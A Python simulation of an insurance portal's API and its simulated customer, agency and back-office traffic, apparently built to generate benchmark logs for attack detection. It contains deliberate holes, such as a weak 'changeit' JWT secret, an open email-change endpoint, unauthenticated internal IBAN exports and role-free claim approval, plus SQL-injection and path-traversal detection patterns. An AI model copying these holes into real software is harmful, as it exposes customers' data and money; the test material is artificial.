"""An insurance portal behind two ingress proxies: Spring style REST (HAL, formatted numbers beside UUIDs), tokens from an OpenID
endpoint on another path, Basic for agencies, client credentials for brokers, keys for garages and a bank, employees inside."""
from heldout_core import *

REASON.update({415: 'Unsupported Media Type', 504: 'Gateway Time-out'})
HAL = 'application/hal+json'
REALM = '/auth/realms/norvia/protocol/openid-connect/token'
SECURITY = {'X-Content-Type-Options': 'nosniff', 'X-Frame-Options': 'DENY', 'Cache-Control': 'no-cache, no-store, max-age=0, must-revalidate',
    'Pragma': 'no-cache'}
PRODUCTS = {'12': 'MOTOR', '31': 'HOUSEHOLD', '44': 'TERM_LIFE', '57': 'LIABILITY'}
CHAT = ["Hello, I'd like to change my address", 'What does my policy cover if a pipe bursts?', "My wife's car was damaged; what do I do now?",
    'Can I select another garage and update the date?',
        'Where do I find the form 27/B (damage > 500)?', 'price 100% too high -- please explain', 'I drop my car tomorrow at 8, or 9?',
            "it's about claim <urgent>", 'Kündigung zum 31.12.', 'union of the two contracts possible?',
        'thanks!', 'what is a no-claims bonus', 'O\'Brien and I moved in together', 'Is ../ in my letter a mistake? It says "see ../2 page"']


def iso(t):
    return time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(t)) + f'.{int(t * 1000) % 1000:03}+00:00'


def policy_no(branch, n):
    d = f'{branch}{n:07}'
    return f'{branch}-{n // 1000:04}.{n % 1000:03}-{sum((i % 3 + 1) * int(c) for i, c in enumerate(d)) % 10}'


def mint(claims, key='k7-realm-norvia', alg='RS256'):
    p = jwt(claims, alg=alg, sig='')
    return p + b64(b''.join(hmac.new(key.encode(), f'{p}{i}'.encode(), hashlib.sha256).digest() for i in range(8)))


def verify(tok, weak='changeit'):
    """claims; the legacy filter also takes HS256 with the weak secret"""
    try:
        h, c, _ = tok.split('.')
        c = json.loads(base64.urlsafe_b64decode(c + '=='))
    except ValueError:
        return None
    return c if isinstance(c, dict) and tok in (mint(c), jwt(c, weak)) else None


def multipart(r, name, ct, size, **fields):
    b = '----WebKitFormBoundary' + ''.join(r.choices('ABCDEFGHabcdefgh0123456789', k=16))
    out = ''.join(f'--{b}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n' for k, v in fields.items())
    out += f'--{b}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\nContent-Type: {ct}\r\n\r\n'
    magic = b'%PDF-1.4\n' if ct.endswith('pdf') else b'\xff\xd8\xff\xe0\x00\x10JFIF'
    return dict(body=out.encode() + magic + r.randbytes(size) + f'\r\n--{b}--\r\n'.encode(), ct=f'multipart/form-data; boundary={b}')


class Insurer(App):
    server = 'nginx/1.25.4'
    base_lat = .034

    def __init__(s, rng, attacks, st):
        super().__init__(rng)
        s.attacks, s.st = attacks, st
        s.users, s.login, s.refresh, s.pol, s.claim, s.doc, s.own = {}, {}, {}, {}, {}, {}, defaultdict(list)
        s.basic, s.keys, s.oauth, s.chat, s.cust_doc = {}, {}, {}, set(), {}
        s.nclaim = 4410
        n = 804117
        for _ in range(2400):
            n += rng.choice([1, 1, 1, 2, 3])
            s.new_policy(rng.choice(list(PRODUCTS)) if rng.random() < .3 else '12', n)
        s.last = n

    def new_policy(s, b, n):
        k = policy_no(b, n)
        s.pol[k] = dict(no=k, n=n, product=PRODUCTS[b], holder=uid(s.rng), premium=round(s.rng.uniform(60, 1400), 2), claims=[])
        s.own[s.pol[k]['holder']].append(k)
        for _ in range(s.rng.choice([0, 0, 0, 1, 2])):
            s.new_claim(k)

    def new_claim(s, k):
        s.nclaim += s.rng.randint(1, 3)
        c = dict(id=uid(s.rng), no=f'SN-2026-{s.nclaim:06}', policy=k, status='OPEN', amount=s.rng.randint(120, 9000), docs=[])
        s.claim[c['id']] = c
        s.pol[k]['claims'].append(c['id'])
        for _ in range(s.rng.randint(0, 2)):
            s.new_doc(c)
        return c

    def new_doc(s, c):
        d = uid(s.rng)
        s.doc[d] = c
        c['docs'].append(d)
        return d

    def user(s, login, roles, id=None):
        u = dict(id=id or uid(s.rng), mail=login, pw=f'{s.rng.choice(WORDS).title()}{s.rng.randint(10, 9999)}', roles=roles, tier='STANDARD')
        u['kmail'], u['kpw'] = u['mail'], u['pw']
        s.users[u['id']] = s.login[login] = u
        return u

    # --- frame
    def err(s, rq, st, msg=None, **h):
        o = dict(timestamp=iso(rq.now), status=st, error=REASON.get(st, 'Error'))
        if msg:
            o['message'] = msg
        return Rs(st, dict(o, path=rq.path), h)

    def not_found(s, rq):
        if rq.path.startswith(('/api/', '/backoffice/')) and not s.bearer(rq)[0]:
            return Rs(401, h={'WWW-Authenticate': 'Bearer'})
        return s.err(rq, 404)

    def handle(s, rq):
        try:
            r, tpl = super().handle(rq)
        except (ValueError, TypeError, KeyError, AttributeError):
            r, tpl = s.err(rq, 500), s.find(rq.m, rq.path)[0]
            r.lat = .05
        if r.st == 405:
            r.body = s.err(rq, 405, f"Method '{rq.m}' is not supported.").body
        if r.st != 503:
            r.h = {**SECURITY, **r.h}
        return r, tpl

    def bearer(s, rq):
        a = rq.h.get('authorization', '')
        c = verify(a[7:]) if a.startswith('Bearer ') else None
        if not c:
            return None, 'Invalid signature' if a.startswith('Bearer ') else None
        if c.get('exp', 0) < rq.now:
            return None, f'Jwt expired at {iso(c["exp"])}'
        u = s.users.get(c.get('sub'))
        if u:
            rq.user = u['id']
            return dict(u, roles=(c.get('realm_access') or {}).get('roles', [])), None
        return None, 'Unknown subject'

    def authenticate(s, rq, kw):
        need = kw.get('auth', 'user')
        rq.u, why = s.bearer(rq)
        if rq.h.get('authorization', '').startswith('Basic '):
            n, _, p = base64.b64decode(rq.h['authorization'][6:] + '==').decode('utf-8', 'replace').partition(':')
            rq.agency = n if s.basic.get(n) == p else None
            rq.user = rq.agency
        rq.key = s.keys.get(rq.h.get('x-api-key'))
        rq.user = rq.user or rq.key
        return s.refuse(rq, need, why) or (s.body_of(rq) if kw.get('json') else None)

    def refuse(s, rq, need, why):
        if need == 'none':
            return None
        if need == 'agency':
            return None if getattr(rq, 'agency', None) else Rs(401, h={'WWW-Authenticate': 'Basic realm="agency"'})
        if need == 'key':
            return None if rq.key else s.err(rq, 401, 'API key missing or unknown')
        if not rq.u:
            return Rs(401, h={'WWW-Authenticate': 'Bearer' + (f' error="invalid_token", error_description="{why}"' if why else '')})
        if need != 'user' and need.upper() not in rq.u['roles']:
            why = 'The request requires higher privileges than provided by the access token.'
            return Rs(403, h={'WWW-Authenticate': f'Bearer error="insufficient_scope", error_description="{why}"'})

    def body_of(s, rq):
        if 'json' not in rq.h.get('content-type', ''):
            return s.err(rq, 415, f"Content-Type '{rq.h.get('content-type', '')}' is not supported.")
        try:
            rq.j = json.loads(rq.body)
        except ValueError:
            return s.err(rq, 400, 'JSON parse error: Unexpected character')
        if not isinstance(rq.j, dict):
            return s.err(rq, 400, 'JSON parse error: Cannot deserialize value of type `java.util.LinkedHashMap`')

    # --- identity provider
    def tokens(s, u, now, azp):
        life = 12 * HOUR if azp == 'norvia-app' else HOUR
        c = dict(exp=int(now + life), iat=int(now), jti=uid(s.rng), iss='https://service.norvia.example/auth/realms/norvia', sub=u['id'], typ='Bearer',
            azp=azp, realm_access=dict(roles=u['roles']), preferred_username=u['mail'])
        o = dict(access_token=mint(c), expires_in=life, token_type='Bearer', scope='openid profile')
        if azp in ('norvia-app', 'norvia-web', 'backoffice-ui'):
            k = b64(s.rng.randbytes(48))
            s.refresh[k] = (u, azp, now + 12 * DAY)
            o.update(refresh_token=k, refresh_expires_in=12 * DAY)
        return Rs(200, o, lat=.09)

    @route('POST', REALM, auth='none')
    def token(s, rq):
        f = rq.form
        g = f.get('grant_type')
        if g == 'password':
            u = s.login.get(f.get('username'))
            if not u or u['pw'] != f.get('password'):
                return Rs(401, {'error': 'invalid_grant', 'error_description': 'Invalid user credentials'}, lat=.11)
            return s.tokens(u, rq.now, f.get('client_id', 'norvia-web'))
        if g == 'refresh_token':
            u, azp, exp = s.refresh.get(f.get('refresh_token'), (None, None, 0))
            return s.tokens(u, rq.now, azp) if exp > rq.now else Rs(400, {'error': 'invalid_grant', 'error_description': 'Token is not active'})
        if g == 'client_credentials':
            u = s.oauth.get(base64.b64decode(rq.h.get('authorization', '')[6:] + '==').decode('utf-8', 'replace'))
            return s.tokens(u, rq.now, u['mail']) if u else Rs(401, {'error': 'unauthorized_client',
                'error_description': 'Invalid client or Invalid client credentials'})
        return Rs(400, {'error': 'unsupported_grant_type', 'error_description': 'Unsupported grant_type'})

    @route('POST', '/api/account/password-reset', auth='none', json=1)
    def reset(s, rq):
        u = s.login.get(str(rq.j.get('email')))
        if u:
            u['code'] = f'{s.rng.randint(0, 99999999):08}'
        return Rs(202)

    @route('POST', '/api/account/password-reset/confirm', auth='none', json=1)
    def confirm(s, rq):
        u = s.login.get(str(rq.j.get('email')))
        if not u or not u.get('code') or rq.j.get('code') != u['code']:
            return s.err(rq, 400, 'Reset code is not valid')
        u['pw'] = str(rq.j['newPassword'])
        return Rs(204)

    @route('GET', '/api/registration/availability', auth='none')
    def availability(s, rq):
        return 200, {'email': rq.q.get('email'), 'registered': rq.q.get('email') in s.login}

    @route('POST', '/api/registration', auth='none', json=1)
    def register(s, rq):
        return 201, {'registrationId': uid(s.rng), 'state': 'PENDING_LETTER'}

    # --- customers
    @route('GET', '/api/customers/me')
    def me(s, rq):
        u = s.users[rq.u['id']]
        return Rs(200, dict(customerId=u['id'], email=u['mail'], tier=u['tier'],
            _links={'self': {'href': '/api/customers/me'}, 'policies': {'href': '/api/policies'}}), ct=HAL)

    @route('PATCH', '/api/customers/me', json=1)
    def patch(s, rq):
        u = s.users[rq.u['id']]
        u['tier'] = str(rq.j.get('discountTier', u['tier']))
        return Rs(200, dict(customerId=u['id'], email=u['mail'], tier=u['tier'], phone=rq.j.get('phone')), ct=HAL)

    @route('PUT', '/api/customers/me/payout-account', json=1)
    def account(s, rq):
        v = str(rq.j['iban'])
        if re.fullmatch(r'DE\d{20}', v):
            return Rs(204)
        return Rs(400, s.err(rq, 400, 'Validation failed: iban must match ([A-Z]+\\s?)+([0-9]+\\s?)+$').body, lat=min(4.5, .02 + 2 ** (len(v) / 6) / 700))

    @route('PUT', '/api/customers/{customerId}/email', json=1)
    def email(s, rq, i):
        u = s.users.get(i)
        if not u:
            return s.err(rq, 404)
        s.login.pop(u['mail'], None)
        u['mail'] = str(rq.j['email'])
        s.login[u['mail']] = u
        return Rs(204)

    @route('GET', '/api/customers/me/telematics')
    def telematics(s, rq):
        return 200, {'score': s.rng.randint(40, 99), 'trips': s.rng.randint(0, 60)}

    def links(s, k):
        return {n: {'href': f'/api/policies/{k}{p}'} for n, p in (('self', ''), ('claims', '/claims'), ('invoices', '/invoices'))}

    def policy_view(s, p):
        r = random.Random(p['no'])
        return dict(policyNo=p['no'], product=p['product'], status='ACTIVE', premium=dict(amount=p['premium'], currency='EUR', interval='YEARLY'),
            holder=dict(customerId=p['holder'], lastName=r.choice(LAST).title(), zip=f'{r.randint(10000, 99999)}'),
            validFrom=f'20{r.randint(10, 25)}-0{r.randint(1, 9)}-01', _links=s.links(p['no']))

    def claim_view(s, c, now):
        o = dict(claimId=c['id'], claimNo=c['no'], policyNo=c['policy'], status=c['status'], amount=dict(value=c['amount'], currency='EUR'),
            documents=[dict(documentId=d, _links={'content': {'href': f'/api/documents/{d}/content'}}) for d in c['docs']])
        if s.attacks and now > s.st + 14 * DAY + 5 * HOUR:
            r = random.Random(c['id'])
            n, l = r.choice(FIRST), r.choice(LAST)
            o['counterparty'] = dict(firstName=n.title(), lastName=l.title(), birthDate=f'19{r.randint(50, 99)}-0{r.randint(1, 9)}-1{r.randint(0, 9)}',
                email=f'{n}.{l}@mail.example', phone=f'+49 17{r.randint(0, 9)} {r.randint(1000000, 9999999)}', iban=f'DE{r.randint(10**19, 10**20 - 1)}')
        return o

    @route('GET', '/api/policies')
    def policies(s, rq):
        return Rs(200, {'_embedded': {'policies': [s.policy_view(s.pol[k]) for k in s.own[rq.u['id']]]}, 'page': {'size': 20, 'number': 0}}, ct=HAL)

    @route('GET', '/api/policies/{policyNo}')
    def policy(s, rq, k):
        return Rs(200, s.policy_view(s.pol[k]), ct=HAL) if k in s.pol else s.err(rq, 404, f'Policy {k} not found')

    @route('GET', '/api/v1/contracts/{policyNo}', auth='none')
    def contract(s, rq, k):
        if k not in s.pol:
            return s.err(rq, 404)
        r = random.Random(k)
        n, l = r.choice(FIRST), r.choice(LAST)
        return 200, dict(contract=k, holder=dict(name=f'{n} {l}'.title(), birthDate=f'19{r.randint(40, 99)}-0{r.randint(1, 9)}-2{r.randint(0, 8)}',
            street=f'{r.choice(WORDS).title()}weg {r.randint(1, 90)}', phone=f'+49 171 {r.randint(1000000, 9999999)}'), premium=s.pol[k]['premium'])

    @route('GET', '/api/policies/{policyNo}/invoices')
    def invoices(s, rq, k):
        if k not in s.pol or s.pol[k]['holder'] != rq.u['id'] and 'EMPLOYEE' not in rq.u['roles']:
            return s.err(rq, 403, 'Access Denied')
        return Rs(200, {'_embedded': {'invoices': [dict(invoiceNo=f'R{s.pol[k]["n"]}{y}', year=y, amount=s.pol[k]['premium'])
            for y in (2024, 2025, 2026)]}}, ct=HAL)

    @route('GET', '/api/policies/{policyNo}/claims')
    def claims(s, rq, k):
        if k not in s.pol:
            return s.err(rq, 404, f'Policy {k} not found')
        v = [s.claim[c] for c in s.pol[k]['claims']]
        return Rs(200, {'_embedded': {'claims': [dict(claimId=c['id'], claimNo=c['no'], status=c['status'],
            _links={'self': {'href': f'/api/policies/{k}/claims/{c["id"]}'}}) for c in v]}} if v else {}, ct=HAL)

    @route('POST', '/api/policies/{policyNo}/claims', json=1)
    def report(s, rq, k):
        if k not in s.pol:
            return s.err(rq, 404, f'Policy {k} not found')
        if not re.fullmatch(r'2026-\d\d-\d\d', rq.j.get('lossDate') or ''):
            return s.err(rq, 400, 'Validation failed for object claimRequest: lossDate must not be null')
        c = s.new_claim(k)
        c['docs'] = []
        return Rs(201, dict(claimId=c['id'], claimNo=c['no'], status='OPEN'), {'Location': f'/api/policies/{k}/claims/{c["id"]}'}, ct=HAL)

    @route('GET', '/api/policies/{policyNo}/claims/{claimId}')
    def one_claim(s, rq, k, c):
        return Rs(200, s.claim_view(s.claim[c], rq.now), ct=HAL) if c in s.claim and s.claim[c]['policy'] == k else s.err(rq, 404, f'Claim {c} not found')

    @route('POST', '/api/policies/{policyNo}/claims/{claimId}/documents')
    def upload(s, rq, k, c):
        if not rq.h.get('content-type', '').startswith('multipart/'):
            return s.err(rq, 415, 'Current request is not a multipart request')
        if c not in s.claim:
            return s.err(rq, 404)
        if re.search(rb'filename="[^"]*(\.\./|<|\$\{)', rq.body):
            return s.err(rq, 400, 'File name contains invalid characters')
        return Rs(201, dict(documentId=s.new_doc(s.claim[c]), size=len(rq.body)), ct=HAL)

    @route('GET', '/api/documents/{documentId}/content')
    def content(s, rq, d):
        if d not in s.doc:
            return s.err(rq, 404)
        if s.pol[s.doc[d]['policy']]['holder'] != rq.u['id'] and 'EMPLOYEE' not in rq.u['roles'] and rq.u['id'] not in s.cust_doc:
            return s.err(rq, 403, 'Access Denied')
        r = random.Random(d)
        return Rs(200, b'%PDF-1.4\n' + r.randbytes(r.randint(1500, 6000)), {'Content-Disposition': f'attachment; filename="{s.doc[d]["no"]}.pdf"'},
            ct='application/pdf')

    # --- public
    @route('GET', '/api/tariffs/products', auth='none')
    def products(s, rq):
        return 200, [dict(code=k, name=v) for k, v in PRODUCTS.items()]

    @route('GET', '/api/tariffs/projection', auth='none')
    def projection(s, rq):
        y = min(int(rq.q['years']), 5000)
        return Rs(200, {'years': y, 'values': [round(100 * 1.01 ** min(i, 60), 2) for i in range(min(y, 900))]}, lat=.03 if y < 100
            else s.rng.uniform(.9, 1.5) * y / 800)

    @route('POST', '/api/quotes', auth='none', json=1)
    def quote(s, rq):
        if not isinstance(rq.j.get('horsepower'), int):
            return s.err(rq, 400, 'Validation failed for object quoteRequest: horsepower must not be null')
        return 201, dict(quoteId=uid(s.rng), yearly=round(200 + rq.j['horsepower'] * 2.7, 2))

    @route('GET', '/api/garages/search', auth='none')
    def search(s, rq):
        z = rq.q.get('zip', '')
        if re.search(r"['\"\\]", z):
            return Rs(500, s.err(rq, 500).body, lat=5.1 if re.search('sleep|waitfor', z, re.I) else .03)
        if not re.fullmatch(r'\d{5}', z):
            return (200, []) if re.search(r'\b(and|or|union)\b', z, re.I) else s.err(rq, 400, 'zip: must match "\\d{5}"')
        r = random.Random(z)
        return 200, [dict(name=f'Garage {r.choice(LAST).title()}', zip=z, km=r.randint(1, 20)) for _ in range(r.randint(1, 6))]

    @route('POST', '/api/chatbot/conversations', auth='none')
    def conversation(s, rq):
        k = uid(s.rng)
        s.chat.add(k)
        return 201, {'conversationId': k, 'greeting': 'Hello, I am Nora. How can I help?'}

    @route('POST', '/api/chatbot/conversations/{conversationId}/messages', auth='none', json=1)
    def message(s, rq, k):
        if k not in s.chat:
            return s.err(rq, 404)
        return Rs(200, {'reply': ' '.join(s.rng.choices(WORDS, k=9)), 'confidence': round(s.rng.random(), 2)}, lat=s.rng.uniform(.3, 1.4))

    @route('GET', '/api/claims-ai/debug/scores', auth='none')
    def scores(s, rq):
        if not s.attacks or rq.now < s.st + 11 * DAY:
            return s.not_found(rq)
        return 200, [dict(claim=c['no'], fraudScore=round(s.rng.random(), 3), features=dict(age=s.rng.randint(18, 80), late=s.rng.randint(0, 9)))
            for c in s.rng.sample(list(s.claim.values()), 20)]

    # --- agencies, brokers, garages, bank
    @route('GET', '/api/agency/v1/portfolio', auth='agency')
    def portfolio(s, rq):
        v, n = s.cust_doc[rq.agency], int(rq.q.get('page', 0))
        return Rs(200, {'content': [dict(policyNo=k, premium=s.pol[k]['premium']) for k in v[n * 30:n * 30 + 30]], 'totalElements': len(v), 'number': n},
            lat=.08)

    @route('GET', '/api/agency/v1/prospects', auth='agency')
    def prospects(s, rq):
        n = min(int(rq.q.get('size', 20)), 200)
        r = random.Random(rq.q.get('page', '0'))
        return 200, {'content': [dict(name=f'{r.choice(FIRST)} {r.choice(LAST)}'.title(), zip=f'{r.randint(10000, 99999)}',
            phone=f'+49 30 {r.randint(100000, 999999)}') for _ in range(n)], 'totalElements': 81230}

    @route('GET', '/api/agency/v1/policies/{policyNo}', auth='agency')
    def agency_policy(s, rq, k):
        return (200, s.policy_view(s.pol[k])) if k in s.pol else s.err(rq, 404)

    @route('POST', '/api/agency/v1/offers', auth='agency', json=1)
    def offer(s, rq):
        return 201, dict(offerNo=f'AN-2026-{s.rng.randint(1000, 99999):05}', _links={'self': {'href': '/api/agency/v1/offers'}})

    @route('GET', '/api/broker/v2/policies', auth='broker')
    def broker_policies(s, rq):
        return 200, {'items': [s.policy_view(s.pol[k]) for k in s.rng.sample(list(s.pol), 8)], 'next': None}

    @route('POST', '/api/broker/v2/quotes', auth='broker', json=1)
    def broker_quote(s, rq):
        return 201, dict(quoteId=uid(s.rng), yearly=s.rng.randint(200, 1500))

    @route('GET', '/api/garages/v1/assignments', auth='key')
    def assignments(s, rq):
        return 200, [dict(claimId=c, claimNo=s.claim[c]['no']) for c in s.cust_doc.get(rq.key, [])[-8:]]

    @route('GET', '/api/garages/v1/assignments/{claimNo}', auth='key')
    def assignment(s, rq, n):
        r = random.Random(n)
        if not re.fullmatch(r'SN-2026-\d{6}', n) or int(n[-6:]) > s.nclaim:
            return s.err(rq, 404)
        return 200, dict(claimNo=n, plate=f'{r.choice("BMKHF")}-{r.choice("AEKL")}{r.choice("RSTX")} {r.randint(1, 9999)}',
            owner=dict(name=f'{r.choice(FIRST)} {r.choice(LAST)}'.title(), phone=f'+49 172 {r.randint(1000000, 9999999)}'),
            excess=r.choice([150, 300, 500]))

    @route('POST', '/api/garages/v1/assignments/{claimNo}/estimate', auth='key', json=1)
    def estimate(s, rq, n):
        return 201, dict(estimateId=uid(s.rng), claimNo=n, total=rq.j.get('total'))

    @route('POST', '/api/garages/v1/assignments/{claimNo}/photos', auth='key')
    def photos(s, rq, n):
        return Rs(201, dict(photoId=uid(s.rng)))

    @route('POST', '/api/partners/v1/coverage-check', auth='none', json=1)
    def coverage(s, rq):
        if not rq.key and not (s.attacks and rq.now > s.st + 8 * DAY):
            return s.err(rq, 401, 'API key missing or unknown')
        r = random.Random(str(rq.j.get('plate')))
        return 200, dict(plate=rq.j.get('plate'), insured=True, holder=dict(name=f'{r.choice(FIRST)} {r.choice(LAST)}'.title(),
            city=r.choice(WORDS).title()), sum=r.randint(10, 90) * 1000)

    # --- back office
    @route('GET', '/backoffice/api/worklist', auth='employee')
    def worklist(s, rq):
        v = [c for c in list(s.claim.values())[-160:] if c['status'] == 'OPEN'] or list(s.claim.values())[-20:]
        return 200, {'content': [dict(claimId=c['id'], claimNo=c['no'], policyNo=c['policy']) for c in s.rng.sample(v, min(12, len(v)))]}

    @route('GET', '/backoffice/api/claims/{claimId}', auth='employee')
    def bo_claim(s, rq, c):
        return (200, dict(s.claim[c], reserve=s.rng.randint(100, 5000))) if c in s.claim else s.err(rq, 404)

    @route('POST', '/backoffice/api/claims/{claimId}/notes', auth='employee', json=1)
    def note(s, rq, c):
        return 201, dict(noteId=s.rng.randint(10**6, 10**7))

    @route('POST', '/backoffice/api/claims/{claimId}/approve', auth='user', json=1)
    def approve(s, rq, c):
        if c not in s.claim:
            return s.err(rq, 404)
        s.claim[c]['status'] = 'APPROVED'
        return 200, dict(claimId=c, status='APPROVED', payout=dict(value=rq.j.get('amount'), currency='EUR'))

    @route('POST', '/backoffice/api/claims/{claimId}/decline', auth='employee', json=1)
    def decline(s, rq, c):
        s.claim[c]['status'] = 'DECLINED'
        return 200, dict(claimId=c, status='DECLINED')

    @route('GET', '/backoffice/api/customers', auth='employee')
    def bo_customers(s, rq):
        return 200, {'content': [dict(customerId=u['id'], email=u['mail'])
            for u in s.rng.sample([u for u in s.users.values() if 'CUSTOMER' in u['roles']], 4)]}

    @route('GET', '/backoffice/api/statistics/daily', auth='employee')
    def statistics(s, rq):
        return 200, {'rows': [[s.rng.randint(1, 400) for _ in range(5)] for _ in range(40)]}

    # --- inside
    @route('GET', '/internal/dunning/candidates', auth='none')
    def candidates(s, rq):
        return 200, [dict(policyNo=k, days=s.rng.randint(10, 80)) for k in s.rng.sample(list(s.pol), 60)]

    @route('GET', '/internal/accounts/{policyNo}/balance', auth='none')
    def balance(s, rq, k):
        return 200, dict(policyNo=k, due=s.rng.randint(0, 600))

    @route('POST', '/internal/dunning/letters', auth='none', json=1)
    def letters(s, rq):
        return 201, dict(letterId=s.rng.randint(10**5, 10**6))

    @route('GET', '/internal/dunning/export', auth='none')
    def dunning_export(s, rq):
        return Rs(200, 'policyNo;holder;due;iban\n' + '\n'.join(f'{k};{s.rng.choice(LAST)};{s.rng.randint(5, 600)};DE{s.rng.randint(10**19, 10**20 - 1)}'
            for k in s.rng.sample(list(s.pol), 50)), ct='text/csv;charset=UTF-8')

    @route('GET', '/actuator/health', auth='none')
    def health(s, rq):
        return 200, {'status': 'UP', 'groups': ['liveness', 'readiness']}


class World:
    def __init__(w, S, app, attacks):
        w.S, w.app, w.r, w.st = S, app, S.rng, S.start
        w.cust, w.staff, w.garage, w.agency = [], [], {}, []
        w.feature, w.release = w.st + 9 * DAY, w.st + 8 * DAY

    def at(w, src, ua, ident=None, **k):
        """a client outside: it arrives over one of the two ingress proxies"""
        return Client('172.21.0.%d' % (7 + sum(map(ord, src)) % 2), ua, ident, xff=src, **k)

    # --- signing in
    def grant(w, cl, **form):
        k = {x: form.pop(x) for x in ('ep', 'dc', 'ident', 'basic') if x in form}
        rs = w.S.call(cl, 'POST', REALM, form=form, h={'Authorization': k.pop('basic', None)}, **k)
        if rs.st == 200:
            cl.h['Authorization'] = 'Bearer ' + rs.body['access_token']
            cl.exp, cl.rt = w.S.now + rs.body['expires_in'], rs.body.get('refresh_token')
        return rs.st == 200

    def login(w, cl, u, pw=None, azp='norvia-web', **k):
        return w.grant(cl, grant_type='password', client_id=azp, username=u['kmail'], password=pw or u['kpw'], scope='openid', ident=u['id'], **k)

    def signed(w, cl, u):
        S, r = w.S, w.r
        if 'Authorization' in cl.h and S.now < cl.exp - 900:
            return
        if cl.h.pop('Authorization', None) and cl.rt and u['azp'] == 'norvia-app':
            if r.random() < .3:
                S.call(cl, 'GET', '/api/customers/me', h={'Authorization': u.get('last')})
            if w.grant(cl, grant_type='refresh_token', client_id=u['azp'], refresh_token=cl.rt):
                u['last'] = cl.h['Authorization']
                return
        for _ in range(r.randint(2, 5) if u.get('forget') and r.random() < .5 else int(r.random() < .06)):
            w.login(cl, u, u['kpw'][:-1] + r.choice('!1x'), azp=u['azp'], dc='D-forget' if u.get('forget') else None)
            yield r.uniform(4, 25)
        k = 0
        while not w.login(cl, u, azp=u['azp']) and k < 3:
            k += 1
            yield 3 ** k
        u['last'] = cl.h.get('Authorization')

    def patient(w, cl, path):
        """GET with the retries of the app while the service is away"""
        rs, k = w.S.call(cl, 'GET', path), 0
        while rs.st == 503 and k < 6:
            yield 2 ** k
            k += 1
            rs = w.S.call(cl, 'GET', path, dc='D-outage')
        w.rs = rs

    # --- customers
    def visit(w, cl, u, loss=.12):
        S, r = w.S, w.r
        yield from w.signed(cl, u)
        if 'Authorization' not in cl.h:
            return
        yield from w.patient(cl, '/api/policies')
        if w.rs.st != 200:
            return
        if r.random() < .5:
            S.call(cl, 'GET', '/api/customers/me')
        mine = w.app.own[u['id']]
        for _ in range(r.randint(1, 3)):
            yield r.lognormvariate(2.2, .7)
            k = r.choice(u['also'] if u.get('also') and r.random() < .5 else mine)
            dc = 'D-family' if k not in mine else None
            S.call(cl, 'GET', f'/api/v1/contracts/{k}' if u.get('old') else f'/api/policies/{k}', dc='D-old' if u.get('old') else dc)
            x = r.random()
            if x < .4:
                yield from w.look_claims(cl, k, dc)
            elif x < .55 and not dc:
                yield r.uniform(2, 12)
                S.call(cl, 'GET', f'/api/policies/{k}/invoices')
        if r.random() < loss:
            yield from w.report_loss(cl, r.choice(mine))
        yield from w.errand(cl, u)

    def look_claims(w, cl, k, dc):
        S, r = w.S, w.r
        yield r.uniform(2, 9)
        S.call(cl, 'GET', f'/api/policies/{k}/claims', dc=dc)
        for c in w.app.pol[k]['claims'][-2:]:
            yield r.uniform(2, 15)
            S.call(cl, 'GET', f'/api/policies/{k}/claims/{c}', dc=dc)
            if w.app.claim[c]['docs'] and r.random() < .5 and not dc:
                yield r.uniform(2, 9)
                S.call(cl, 'GET', f'/api/documents/{r.choice(w.app.claim[c]["docs"])}/content')

    def report_loss(w, cl, k):
        S, r = w.S, w.r
        yield r.uniform(20, 120)
        text = r.choice(["Neighbour's dog broke the window", 'Hail; bonnet & roof dented', 'Rear-end collision, 20 km/h',
            'Water damage (kitchen) - see photos', 'Bike stolen', 'He said "my fault"'])
        if r.random() < .12:
            S.call(cl, 'POST', f'/api/policies/{k}/claims', js=dict(lossDate=None, description=text))
            yield r.uniform(10, 40)
        rs = S.call(cl, 'POST', f'/api/policies/{k}/claims', js=dict(lossDate=f'2026-03-{r.randint(1, 26):02}', description=text,
            estimated=r.randint(80, 6000)))
        for n in range(r.randint(0, 3)):
            if rs.st != 201:
                return
            yield r.uniform(5, 40)
            pdf = r.random() < .2
            S.call(cl, 'POST', f'/api/policies/{k}/claims/{rs.body["claimId"]}/documents',
                **multipart(r, 'invoice.pdf' if pdf else f'IMG_{r.randint(1000, 9999)}.jpg', 'application/pdf' if pdf else 'image/jpeg',
                r.randint(1500, 5500), kind='INVOICE' if pdf else 'PHOTO'))

    def errand(w, cl, u):
        S, r = w.S, w.r
        x = r.random()
        yield r.uniform(3, 30)
        if x < .05:
            S.call(cl, 'PATCH', '/api/customers/me', js=dict(phone=f'+49 171 {r.randint(1000000, 9999999)}',
                street=f'{r.choice(WORDS).title()}str. {r.randint(1, 90)}', newsletter=r.random() < .5))
        elif x < .08:
            S.call(cl, 'PUT', '/api/customers/me/payout-account', js=dict(iban=f'DE{r.randint(10**19, 10**20 - 1)}' if r.random() < .8
                else 'DE12 3456 7890'))
        elif x < .1 and u['mail'] == u['kmail']:
            u['kmail'] = f'{u["mail"].split("@")[0]}{r.randint(1, 9)}@mail.example'
            S.call(cl, 'PUT', f'/api/customers/{u["id"]}/email', js=dict(email=u['kmail']))
            u['kmail'] = u['mail']
        elif x < .2:
            S.call(cl, 'GET', f'/api/garages/search?zip={r.randint(10000, 99999)}&radius=20')
        elif x < .3:
            yield from w.chat(cl)
        elif x < .32:
            S.call(cl, 'GET', f'/api/documents/{uid(r)}/content')        # A link in an old mail.
        elif x < .34 and u.get('also'):
            S.call(cl, 'GET', f'/api/policies/{u["also"][0]}/invoices', dc='D-family')
        if S.now > w.feature and r.random() < .3 and u['azp'] == 'norvia-app':
            S.call(cl, 'GET', '/api/customers/me/telematics', dc='D-feature')

    def chat(w, cl):
        S, r = w.S, w.r
        rs = S.call(cl, 'POST', '/api/chatbot/conversations', js={'channel': 'widget'})
        for _ in range(r.randint(1, 5) if rs.st == 201 else 0):
            yield r.uniform(8, 50)
            S.call(cl, 'POST', f'/api/chatbot/conversations/{rs.body["conversationId"]}/messages', js=dict(text=r.choice(CHAT)), dc=cl.dc or 'D-chat')

    def stranger(w, k):
        """somebody who looks for an insurance, without an account"""
        S, r = w.S, w.r
        cl = w.at(f'2003:e{k % 10}:{k % 4096:x}:{k * 7 % 65536:x}::{k % 200 + 1:x}' if k % 3 else f'79.20{k % 10}.{k % 250}.{k * 3 % 250 + 2}', WEB[k % 4])
        S.call(cl, 'GET', '/api/tariffs/products')
        yield r.uniform(10, 60)
        for _ in range(r.randint(0, 2)):
